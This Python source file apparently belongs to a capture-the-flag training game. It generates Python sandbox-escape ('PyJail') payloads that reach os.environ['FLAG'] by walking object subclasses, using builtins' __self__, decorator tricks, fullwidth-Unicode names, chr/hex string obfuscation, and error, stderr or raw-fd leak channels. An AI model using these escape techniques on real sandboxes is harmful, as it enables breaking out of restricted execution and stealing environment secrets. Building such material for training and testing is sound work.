"""The text of PyJail attack payloads: fragments, styles and the builder that spells them.

A payload is a :class:`_Frag` (its text, with the tricks, builtins and scope names it relies
on); a :class:`_Style` says how it is spelled (strings, names, attributes, the route to ``os``,
which part of the environment, the output channel, an optional wrapper); :class:`_Builder`
writes one payload of a style for some :class:`~skate.games.pyjail.jails.model.Rules`.
"""

from __future__ import annotations

import string
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, replace
from typing import Any

import numpy as np

from skate.games.pyjail.jails.model import Rules, _has_builtin

# ---------------------------------------------------------------------------
# Payload fragments and the builder
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class _Frag:
    """A piece of payload text with the tricks, builtins and scope names it relies on."""

    text: str
    tricks: frozenset[str] = frozenset()
    needs: frozenset[str] = frozenset()
    scope: frozenset[str] = frozenset()


_EMPTY: frozenset[str] = frozenset()


def _cat(*parts: _Frag | str, tricks: Iterable[str] = ()) -> _Frag:
    text: list[str] = []
    tr, nd, sc = frozenset(tricks), _EMPTY, _EMPTY
    for part in parts:
        if isinstance(part, str):
            text.append(part)
            continue
        text.append(part.text)
        if part.tricks:
            tr = tr | part.tricks
        if part.needs:
            nd = nd | part.needs
        if part.scope:
            sc = sc | part.scope
    return _Frag("".join(text), tr, nd, sc)


_FULLWIDTH = {c: chr(ord(c) + 0xFEE0) for c in string.ascii_letters + string.digits}
_FULLWIDTH["_"] = "\uff3f"  # folds to "_", but may not start an identifier

_STRINGS = ("lit", "concat", "chr", "hexesc")
_NAMES = ("plain", "unicode")
_ATTRS = ("dot", "getattr")
_ROUTES = ("import", "scope", "builtins", "graph")
_FORMS = ("item", "get", "dump")
_CHANNELS = ("return", "print", "error", "stderr", "rawfd")
_WRAPPERS = ("none", "eval_all", "stage2", "decorators")

_COMP_VARS = ("c", "k", "t", "x", "cls", "sub", "kl", "q")
_CLASS_VARS = ("a", "b", "m", "o", "z", "w", "Q", "box", "hold", "mod")
_SELF_FUNCS = ("abs", "len", "print", "repr", "min", "max", "sum", "hash", "chr")


@dataclass(frozen=True)
class _Style:
    wrapper: str = "none"
    strings: str = "lit"
    names: str = "plain"
    attrs: str = "dot"
    route: str = "import"
    form: str = "item"
    channel: str = "return"


class _Builder:
    """Builds one payload of a style for some rules.

    With ``rng`` None every choice is the first acceptable option (the canonical build); with an
    rng the options are shuffled. With ``force`` the style's tricks are applied even where the
    rules do not call for them (for attacks on jails whose rules are unknown).
    """

    def __init__(
        self,
        rules: Rules,
        style: _Style,
        rng: np.random.Generator | None,
        force: bool = False,
        memo: dict | None = None,
    ) -> None:
        self.rules = rules
        self.style = style
        self.rng = rng
        self.force = force
        # canonical builds of many styles for the same rules share their common pieces
        self.memo = memo if rng is None and not force else None

    def _memo(self, key: tuple, make: Callable[[], Any]) -> Any:
        if self.memo is None:
            return make()
        if key not in self.memo:
            self.memo[key] = make()
        return self.memo[key]

    # -- choices ---------------------------------------------------------------------------
    def _order(self, options: Sequence[Any]) -> list[Any]:
        if self.rng is None or len(options) < 2:
            return list(options)
        return [options[i] for i in self.rng.permutation(len(options))]

    def _word_hits(self, text: str) -> list[tuple[int, int]]:
        probe_text = text.lower() if self.rules.ignore_case else text
        spans = []
        for word in self.rules.banned_words:
            start = probe_text.find(word)
            while start >= 0 and word:
                spans.append((start, start + len(word)))
                start = probe_text.find(word, start + 1)
        return spans

    def _clean(self, frag: _Frag) -> bool:
        text = frag.text
        if self.rules.ascii_only and not text.isascii():
            return False
        if any(ch in text for ch in self.rules.banned_chars) or self._word_hits(text):
            return False
        return all(_has_builtin(self.rules, n) for n in frag.needs) and frag.scope <= set(self.rules.scope)

    def pick(self, options: Sequence[_Frag | Callable[[], _Frag]]) -> _Frag:
        """The first option (in the builder's order) that is clean; else the first one."""
        first: _Frag | None = None
        for option in self._order(options):
            frag = option() if callable(option) else option
            if self._clean(frag):
                return frag
            first = first or frag
        if first is None:
            raise ValueError("pick needs at least one option")
        return first

    def _coin(self, p: float = 0.5) -> bool:
        return self.rng is not None and bool(self.rng.random() < p)

    # -- names ----------------------------------------------------------------------------
    def ident(self, name: str) -> _Frag:
        return self._memo(("ident", self.style.names, name), lambda: self._ident(name))

    def _ident(self, name: str) -> _Frag:
        if self.style.names != "unicode":
            return _Frag(name)
        chars = list(name)
        eligible = [i for i, c in enumerate(name) if c in _FULLWIDTH and not (i == 0 and c == "_")]
        if self.force and eligible:
            k = max(1, len(eligible) // 2)
            chosen = self.rng.choice(eligible, size=k, replace=False) if self.rng is not None else eligible[:k]
            for i in chosen:
                chars[int(i)] = _FULLWIDTH[chars[int(i)]]
        for _ in range(len(name)):
            text = "".join(chars)
            bad = [i for i, c in enumerate(text) if c in self.rules.banned_chars]
            for lo, hi in self._word_hits(text):
                bad.extend(range(lo, hi))
            spots = [i for i in dict.fromkeys(bad) if i in eligible and chars[i] == name[i]]
            if not spots:
                break
            i = spots[int(self.rng.integers(len(spots)))] if self.rng is not None else spots[0]
            chars[i] = _FULLWIDTH[chars[i]]
        text = "".join(chars)
        return _Frag(text, frozenset({"unicode"}) if text != name else frozenset())

    def name(self, builtin: str) -> _Frag:
        frag = self.ident(builtin)
        return _Frag(frag.text, frag.tricks, frag.needs | {builtin}, frag.scope)

    # -- strings --------------------------------------------------------------------------
    def _quotes(self) -> list[str]:
        quotes = [q for q in self._order(("'", '"')) if q not in self.rules.banned_chars]
        return quotes or ["'"]

    @staticmethod
    def _escape(text: str, quote: str) -> str:
        return text.replace("\\", "\\\\").replace(quote, "\\" + quote).replace("\n", "\\n")

    def lit(self, text: str) -> _Frag:
        quotes = self._quotes()
        quote = next((q for q in quotes if q not in text), quotes[0])
        return _Frag(quote + self._escape(text, quote) + quote)

    def _chunks(self, text: str) -> list[str]:
        chunks, cur = [], ""
        for ch in text:
            if cur and self._word_hits(cur + ch):
                chunks.append(cur)
                cur = ch
            else:
                cur += ch
        chunks.append(cur)
        if (self.force or self._coin(0.3)) and len(chunks) == 1 and len(text) > 1:
            cut = int(self.rng.integers(1, len(text))) if self.rng is not None else len(text) // 2
            chunks = [text[:cut], text[cut:]]
        return chunks

    def s(self, text: str) -> _Frag:
        """A string expression whose value is ``text``, in the style's spelling."""
        return self._memo(("s", self.style.strings, self.style.names, text), lambda: self._s(text))

    def _s(self, text: str) -> _Frag:
        kind = self.style.strings
        if kind == "lit" or not text:
            return self.lit(text)
        if kind == "concat":
            chunks = self._chunks(text)
            if len(chunks) == 1:
                return self.lit(text)
            quotes = self._quotes()
            quote = next((q for q in quotes if not any(q in c for c in chunks)), quotes[0])
            parts = [quote + self._escape(c, quote) + quote for c in chunks]
            joins = [j for j in self._order(("+", "")) if j not in self.rules.banned_chars] or ["+"]
            return _Frag(joins[0].join(parts), frozenset({"concat"}))
        if kind == "chr":
            fn = self.name("chr")
            hexa = self._coin(0.3)
            codes = [f"{fn.text}({ord(c):#x})" if hexa else f"{fn.text}({ord(c)})" for c in text]
            return replace(fn, text="+".join(codes), tricks=fn.tricks | {"chr"})
        # hex escapes: escape a character of every banned word and every banned character
        marks = {i for i, c in enumerate(text) if c in self.rules.banned_chars or c == "\n"}
        for lo, hi in self._word_hits(text):
            if not marks & set(range(lo, hi)):
                marks.add(int(self.rng.integers(lo, hi)) if self.rng is not None else lo)
        if self.force and not marks and text:
            marks.add(int(self.rng.integers(len(text))) if self.rng is not None else 0)
        quotes = self._quotes()
        quote = quotes[0]
        body = []
        for i, c in enumerate(text):
            if i in marks or c == quote:
                body.append(f"\\x{ord(c):02x}" if ord(c) < 256 else f"\\u{ord(c):04x}")
            elif c == "\\":
                body.append("\\\\")
            else:
                body.append(c)
        return _Frag(quote + "".join(body) + quote, frozenset({"chr"}) if marks else frozenset())

    # -- expressions ----------------------------------------------------------------------
    @staticmethod
    def call(fn: _Frag | str, *args: _Frag | str) -> _Frag:
        parts: list[_Frag | str] = [fn, "("]
        for i, arg in enumerate(args):
            parts.extend([",", arg] if i else [arg])
        parts.append(")")
        return _cat(*parts)

    def getattr_(self, obj: _Frag | str, attr: str) -> _Frag:
        return self.call(self.name("getattr"), obj, self.s(attr))

    def attr(self, obj: _Frag | str, attr: str) -> _Frag:
        if self.style.attrs == "getattr":
            return _cat(self.getattr_(obj, attr), tricks={"getattr"})
        return _cat(obj, ".", self.ident(attr))

    def item(self, obj: _Frag | str, key: str) -> _Frag:
        return _cat(obj, "[", self.s(key), "]")

    # -- the pieces of a payload --------------------------------------------------------------
    def os_route(self) -> tuple[_Frag, bool] | None:
        """An expression for the os module (False) or for os's globals dict (True)."""
        st = self.style
        return self._memo(("os", st.strings, st.names, st.attrs, st.route), self._os_route)

    def _os_route(self) -> tuple[_Frag, bool] | None:
        route = self.style.route
        if route == "import":
            return self.call(self.name("__import__"), self.s("os")), False
        if route == "scope":
            if "os" not in self.rules.scope:
                return None
            return _cat(replace(self.ident("os"), scope=frozenset({"os"})), tricks={"short"}), False
        if route == "builtins":

            def via_global() -> _Frag:
                glob = self.ident("__builtins__")
                glob = replace(glob, needs=frozenset({"__builtins__"}))
                return self.call(self.getattr_(glob, "__import__"), self.s("os"))

            def via_vars() -> _Frag:
                glob = replace(self.ident("__builtins__"), needs=frozenset({"__builtins__"}))
                return self.call(self.item(self.call(self.name("vars"), glob), "__import__"), self.s("os"))

            def via_self(fn: str) -> Callable[[], _Frag]:
                return lambda: self.call(
                    self.getattr_(self.getattr_(self.name(fn), "__self__"), "__import__"), self.s("os")
                )

            frag = self.pick([via_global, via_vars] + [via_self(f) for f in _SELF_FUNCS[:4]])
            return _cat(frag, tricks={"getattr"}), False

        # the object graph: os's globals through a subclass of object, or a builtin's __self__
        def walk() -> _Frag:
            obj = self.pick([_Frag("()"), _Frag("[]"), _Frag("{}"), lambda: self.lit("")])
            cls = self.attr(obj, "__class__")
            base = self.pick(
                [
                    lambda: self.attr(cls, "__base__"),
                    lambda: _cat(self.attr(cls, "__mro__"), "[-1]"),
                    lambda: _cat(self.attr(cls, "__bases__"), "[0]"),
                ]
            )
            subs = self.call(self.attr(base, "__subclasses__"))
            var = self._order(_COMP_VARS)[0]
            cond = _cat(self.attr(var, "__name__"), "==", self.s("_wrap_close"))
            found = _cat("[", var, " for ", var, " in ", subs, " if ", cond, "][0]")
            return self.attr(self.attr(found, "__init__"), "__globals__")

        def self_of(fn: str) -> Callable[[], _Frag]:
            return lambda: self.call(self.attr(self.attr(self.name(fn), "__self__"), "__import__"), self.s("os"))

        walked = walk()
        others = [self_of(f) for f in (self._order(_SELF_FUNCS) if self.rng is not None else _SELF_FUNCS)]
        # the walk needs no builtin at all: the canonical choice, and half the variants
        if (self.rng is None or self._coin(0.5)) and self._clean(walked):
            return _cat(walked, tricks={"subclasses"}), True
        other = self.pick(others)
        if self._clean(other) or not self._clean(walked):
            return _cat(other, tricks={"subclasses"}), False
        return _cat(walked, tricks={"subclasses"}), True

    def member(self, os_expr: _Frag, is_dict: bool, name: str) -> _Frag:
        return self.item(os_expr, name) if is_dict else self.attr(os_expr, name)

    def flag(self, os_expr: _Frag, is_dict: bool) -> _Frag:
        env = self.member(os_expr, is_dict, "environ")
        form = self.style.form
        if form == "dump":
            return _cat(env, tricks={"short"})
        if form == "item":
            return self.item(env, "FLAG")
        return self.pick(
            [
                lambda: self.call(self.attr(env, "get"), self.s("FLAG")),
                lambda: self.call(self.member(os_expr, is_dict, "getenv"), self.s("FLAG")),
            ]
        )

    def sys_module(self, os_expr: _Frag, is_dict: bool) -> _Frag:
        return self.pick(
            [lambda: self.member(os_expr, is_dict, "sys"), lambda: self.call(self.name("__import__"), self.s("sys"))]
        )

    def channel(self, value: _Frag, os_expr: _Frag, is_dict: bool) -> _Frag | None:
        ch, dump = self.style.channel, self.style.form == "dump"
        if ch == "return":
            return value
        if ch == "print":
            return _cat(self.call(self.name("print"), value), tricks={"print"})
        if ch == "error":
            if dump:
                return None
            frag = self.pick([lambda: self.call(self.name("int"), value), lambda: _cat("{}[", value, "]")])
            return _cat(frag, tricks={"error_leak"})
        if ch == "stderr":

            def to_stderr() -> _Frag:
                stream = self.attr(self.sys_module(os_expr, is_dict), "stderr")
                return _cat(self.name("print"), "(", value, ",", self.ident("file"), "=", stream, ")")

            frag = self.pick(
                [lambda: self.call(self.attr(self.sys_module(os_expr, is_dict), "exit"), value), to_stderr]
            )
            return _cat(frag, tricks={"stderr"})

        def write_fd() -> _Frag:
            text = self.call(self.name("str"), value) if dump else value
            data = self.call(self.attr(text, "encode"))
            fd = self._order(("1", "2"))[0]
            return self.call(self.member(os_expr, is_dict, "write"), fd, data)

        def original_stdout() -> _Frag:
            stream = self.attr(self.sys_module(os_expr, is_dict), "__stdout__")
            return _cat(self.name("print"), "(", value, ",", self.ident("file"), "=", stream, ")")

        return _cat(self.pick([write_fd, original_stdout]), tricks={"raw_fd"})

    def plain_payload(self) -> _Frag | None:
        found = self.os_route()
        if found is None:
            return None
        os_expr, is_dict = found
        return self.channel(self.flag(os_expr, is_dict), os_expr, is_dict)

    def decorated(self) -> _Frag | None:
        """Class decorators call functions without Call nodes (exec mode)."""
        names = self._order(_CLASS_VARS)
        lines: list[_Frag | str] = []
        if self.style.route == "scope" and "os" in self.rules.scope:
            mod = _cat(replace(self.ident("os"), scope=frozenset({"os"})), tricks={"short"})
        elif self.style.route == "import":
            arg = self.pick([_Frag(v) for v in ("_", "x", "c", "k")])
            mod = _Frag(names[0])
            lines += ["@", self.name("__import__"), "\n@lambda ", arg, ":", self.s("os"), f"\nclass {names[0]}:pass\n"]
        else:
            return None
        env = self.attr(mod, "environ")
        dump = self.style.form == "dump"
        if self.style.form == "get":
            return None
        value = _cat(env, tricks={"short"}) if dump else self.item(env, "FLAG")
        ch = self.style.channel
        if ch == "print":
            out = _cat(self.name("print"), tricks={"print"})
        elif ch == "error" and not dump:
            out = _cat(self.name("int"), tricks={"error_leak"})
        elif ch == "stderr":
            out = _cat(self.attr(self.attr(mod, "sys"), "exit"), tricks={"stderr"})
        elif ch == "rawfd" and not dump:
            out = _cat(self.attr(self.attr(self.attr(mod, "sys"), "__stdout__"), "write"), tricks={"raw_fd"})
        else:
            return None
        arg = self.pick([_Frag(v) for v in ("_", "x", "c", "k")])
        lines += ["@", out, "\n@lambda ", arg, ":", value, f"\nclass {names[1]}:pass\n"]
        return _cat(*lines, tricks={"decorators"})
